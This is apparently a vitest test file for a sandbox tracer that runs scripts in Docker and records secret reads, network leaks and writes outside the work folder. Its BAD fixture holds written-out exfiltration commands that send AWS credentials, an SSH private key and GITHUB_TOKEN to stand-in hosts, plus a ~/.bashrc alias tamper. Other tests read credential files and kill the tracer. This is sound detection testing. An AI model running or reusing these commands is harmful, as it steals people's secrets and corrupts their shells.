import { randomUUID } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { bash, dockerHost, getImage, listContainers, specOf } from "../test/engine.ts";
import { connectEngine } from "../engine.ts";
import { observe } from "./observe.ts";
import type { Observation } from "./types.ts";

const BAD = `
curl -s -m 5 --data-binary @$HOME/.aws/credentials http://collect.example/in
curl -s -m 5 https://hidden.example/
python3 - <<'END'
import base64, os, socket, urllib.request
data = base64.b64encode(b"x" + open("/home/.ssh/id_ed25519", "rb").read())
urllib.request.urlopen("http://second.example:8080/x", data=data, timeout=5).read()
socket.create_connection(("203.0.113.9", 4444), timeout=3).sendall(os.environ["GITHUB_TOKEN"].encode())
try: socket.create_connection(("203.0.113.9", 7777), timeout=3)
except OSError: pass
socket.getaddrinfo("asked.example", 80)
END
echo 'alias ls=true' >> ~/.bashrc
`;

describe("a command that is observed", () => {
  let image: string;
  beforeAll(async () => {
    image = await getImage();
  });
  const watch = async (run: string, script: string, limits = {}): Promise<Observation> => {
    const engine = connectEngine(dockerHost);
    const deps = { engine, image, newId: () => randomUUID(), now: () => new Date() };
    const spec = specOf(bash(script), { id: run });
    const seen = await observe(deps, { ...spec, limits: { ...spec.limits, ...limits } });
    if (seen.kind !== "observed") throw new Error(JSON.stringify(seen));
    expect(await listContainers(run)).toEqual([]);
    return seen.observation;
  };

  it("is seen to read secrets, to send them, to ask for names and to change what starts with a shell", async () => {
    const seen = await watch("observe-bad", BAD);
    expect(seen.traceState).toBe("whole");
    expect(seen.secretsRead.map((one) => one.path).toSorted()).toEqual([
      "/home/.aws/credentials",
      "/home/.ssh/id_ed25519",
    ]);
    expect(seen.leaks.map(({ place, to }) => `${place} ${to}`).toSorted()).toEqual([
      "$GITHUB_TOKEN 203.0.113.9:4444",
      "/home/.aws/credentials collect.example:80",
      "/home/.ssh/id_ed25519 second.example:8080",
    ]);
    const hosts = seen.hosts.map((one) => `${one.protocol} ${one.name ?? one.address} ${one.port}`);
    expect(hosts.toSorted()).toEqual([
      "dns asked.example null",
      "http collect.example 80",
      "http second.example 8080",
      "tcp 203.0.113.9 4444",
      "tcp 203.0.113.9 7777",
      "tls hidden.example 443",
    ]);
    expect(seen.writesOutsideWork).toEqual(["/home/.bashrc"]);
    expect(seen.programs.map(({ argv }) => argv[0])).toEqual(["bash", "curl", "curl", "python3"]);
  });

  it("shows nothing when it only works on its files", async () => {
    const seen = await watch("observe-good", "echo 1 > a; python3 -c 'print(2)' > b; sort a b");
    expect(seen).toMatchObject({ hosts: [], secretsRead: [], leaks: [], writesOutsideWork: [] });
    expect(seen).toMatchObject({ traceState: "whole", notes: [] });
  });

  it("that takes too long is seen until then, and that is said", async () => {
    const script = "cat ~/.netrc ~/.aws/credentials; sleep 100";
    const seen = await watch("observe-slow", script, { timeoutMs: 1_500 });
    expect(seen.secretsRead.length).toBeGreaterThan(0);
    expect(seen).toMatchObject({ traceState: "stopped", notes: [expect.stringMatching(/time/)] });
  });

  it("that ends its tracer is said to have done so, and not called clean", async () => {
    const seen = await watch("observe-kill", "kill -KILL $PPID; sleep 0.2; kill -KILL -1");
    expect(seen.traceState).toBe("cut");
    expect(seen.notes).not.toEqual([]);
  });
});
